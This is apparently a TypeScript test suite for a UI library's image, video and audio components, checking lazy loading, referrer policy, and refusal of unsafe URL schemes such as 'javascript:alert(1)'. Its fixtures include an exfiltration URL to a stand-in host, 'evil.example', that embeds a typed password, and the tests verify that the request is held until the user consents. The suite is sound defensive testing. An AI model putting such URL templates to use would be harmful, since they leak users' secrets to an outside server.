// Image, Video, AudioPlayer: what is loaded at once, and what waits for the user's consent.
import { fireEvent, screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import type { JsonObject } from '../../src/entries/index.ts'
import { type ShowOptions, show, show08 } from './show.tsx'

const photo = 'https://pictures.example/a.png'
const types = ['Image', 'Video', 'AudioPlayer'] as const

const leak = (type: string, url: JsonObject): readonly JsonObject[] => [
  { id: 'root', component: 'Column', children: ['pw', 'out'] },
  { id: 'pw', component: 'TextField', label: 'Password', variant: 'obscured', value: { path: '/pw' } },
  { id: 'out', component: type, url },
]
const formatted = {
  call: 'formatString',
  args: { value: 'https://evil.example/p.png?d=${/pw}' },
  returnType: 'string',
}

/** Every address that the page would ask for. */
function asked(container: ParentNode): string[] {
  return [...container.querySelectorAll('[src], [href], [srcset], [poster]')].map(
    (element) => element.getAttribute('src') ?? 'other',
  )
}

describe('[BC-11] media', () => {
  it('[BC-11] an image has its text, sends no referrer, and loads when it is near', () => {
    show([{ id: 'root', component: 'Image', url: photo, description: 'A valley', variant: 'header', fit: 'contain' }])
    const image = screen.getByRole<HTMLImageElement>('img', { name: 'A valley' })
    expect([image.src, image.getAttribute('referrerpolicy'), image.getAttribute('loading')]).toEqual([
      photo,
      'no-referrer',
      'lazy',
    ])
    expect(image.className).toBe('sf-image sf-image--header sf-fit-contain')
  })

  it('[BC-11] an image that cannot be had is replaced by its text', () => {
    show([{ id: 'root', component: 'Image', url: photo, description: 'A valley' }])
    fireEvent.error(screen.getByRole('img'))
    expect(screen.getByRole('img', { name: 'A valley' }).tagName).toBe('DIV')
  })

  it.each<[string, ShowOptions]>([
    ['broken', {}],
    ['refused', { media: 'none' }],
  ])('[BC-11] [R-7] an image that is %s keeps its description', (_, options) => {
    const accessibility = { description: 'Taken in May' }
    show([{ id: 'root', component: 'Image', url: photo, description: 'A valley', accessibility }], options)
    if (screen.queryByRole('img')) fireEvent.error(screen.getByRole('img'))
    const place = screen.queryByRole('img') ?? screen.getByRole('note')
    expect([place.tagName, place.getAttribute('aria-description')]).toEqual(['DIV', 'Taken in May'])
  })

  it.each(types.flatMap((type) => ['header', 'icon'].map((variant) => [type, variant])))(
    '[BC-2] [R-7] so does one that waits for consent: %s, %s',
    async (type, variant) => {
      const accessibility = { label: 'A valley', description: 'Taken in May' }
      const [column = {}, field = {}, out = {}] = leak(type, formatted)
      show([column, field, { ...out, ...(type === 'Image' ? { variant } : {}), accessibility }])
      await userEvent.type(screen.getByLabelText('Password'), 'x')
      const place = screen.queryByRole('note') ?? screen.getByRole('button')
      expect(place.getAttribute('aria-description')).toBe('Taken in May')
    },
  )

  it.each(['Video', 'AudioPlayer'])('[BC-11] a %s plays and loads nothing by itself', (component) => {
    const { page } = show([{ id: 'root', component, url: photo, accessibility: { label: 'The valley' } }])
    const player = page.container.querySelector<HTMLMediaElement>('video, audio')
    expect([player?.preload, player?.autoplay, player?.controls, player?.getAttribute('aria-label')]).toEqual([
      'none',
      false,
      true,
      'The valley',
    ])
  })

  it('[BC-11] [BC-13] v0.8: altText, scale-down, usageHint', () => {
    const props = {
      url: { literalString: photo },
      altText: { literalString: 'A valley' },
      fit: 'scale-down',
      usageHint: 'avatar',
    }
    const { errors } = show08([['root', 'Image', props]])
    expect(screen.getByRole('img', { name: 'A valley' }).className).toBe('sf-image sf-image--avatar sf-fit-scaleDown')
    expect(errors).toEqual([])
  })
})

describe('[BC-1] addresses', () => {
  it.each([
    'javascript:alert(1)',
    'data:text/html,x',
    'data:image/svg+xml,x',
    '/a.png',
    'blob:x',
    'https://a@b.example/',
    'file:///a',
  ])('[BC-1] %s is not loaded, literal or bound, by none of them', async (url) => {
    for (const component of types) {
      for (const value of [url, { path: '/url' }]) {
        const { page, errors } = show([{ id: 'root', component, url: value }], { data: { url } })
        expect(asked(page.container)).toEqual([])
        await Promise.resolve()
        expect(errors.map(({ code }) => code)).toEqual(['MEDIA_REFUSED'])
        expect(JSON.stringify(errors)).not.toContain(url)
        page.unmount()
      }
    }
  })

  it.each<[string, ShowOptions['media']]>([
    ['none', 'none'],
    ['a function', (url) => url.hostname === 'other.example'],
  ])("[BC-1] the host's policy is asked after binding: %s", (_, media) => {
    const { page } = show([{ id: 'root', component: 'Image', url: { path: '/url' } }], {
      data: { url: photo },
      ...(media && { media }),
    })
    expect(asked(page.container)).toEqual([])
    expect(page.container.textContent).toContain('pictures.example')
    expect(screen.queryByRole('button')).toBeNull()
  })

  it('[BC-1] a place without an address says nothing', async () => {
    const { page, errors } = show([{ id: 'root', component: 'Image', url: { path: '/nothing' } }])
    await Promise.resolve()
    expect([page.container.textContent, asked(page.container), errors]).toEqual(['', [], []])
  })
})

describe('[BC-2] what the user entered', () => {
  it.each(types)('[BC-2] does not leave with the address of a %s until they ask', async (type) => {
    const { page } = show(leak(type, formatted))
    expect(asked(page.container)).toEqual(['https://evil.example/p.png?d='])
    await userEvent.type(screen.getByLabelText('Password'), 'hunter2')
    expect(asked(page.container)).toEqual([])
    expect(page.container.textContent).toContain('evil.example')
    expect(page.container.textContent).not.toContain('hunter2')
    await userEvent.click(screen.getByRole('button', { name: 'Show' }))
    expect(asked(page.container)).toEqual(['https://evil.example/p.png?d=hunter2'])
    await userEvent.type(screen.getByLabelText('Password'), '!')
    expect(asked(page.container)).toEqual([])
  })

  it('[BC-2] leaves pictures beside a field in the same row alone', async () => {
    const { page } = show(
      [
        { id: 'root', component: 'Column', children: { componentId: 'row', path: '/rows' } },
        { id: 'row', component: 'Column', children: ['name', 'photo'] },
        { id: 'name', component: 'TextField', label: 'Name', value: { path: 'name' } },
        { id: 'photo', component: 'Image', url: { path: 'photo' } },
      ],
      { data: { rows: [{ photo }] } },
    )
    await userEvent.type(screen.getByLabelText('Name'), 'Ada')
    expect(asked(page.container)).toEqual([photo])
  })

  it('[BC-2] keeps an address waiting where the agent writes itself, guessed right or not', async () => {
    for (const guess of ['hunter2', 'other']) {
      const { page, write } = show(leak('Image', formatted))
      await userEvent.type(screen.getByLabelText('Password'), 'hunter2')
      await userEvent.tab()
      write('/pw', guess)
      expect(asked(page.container)).toEqual([])
      page.unmount()
    }
  })

  it('[BC-2] may be in an address that asks nobody, and in one that the host trusts', async () => {
    const { page } = show(leak('Image', { path: '/pw' }), {
      media: ({ host }) => (host === 'own.example' ? 'trusted' : true),
    })
    const field = screen.getByLabelText('Password')
    for (const address of ['data:image/png;base64,AAAA', 'https://own.example/p']) {
      await userEvent.clear(field)
      await userEvent.type(field, address)
      expect(asked(page.container)).toEqual([address])
    }
  })
})
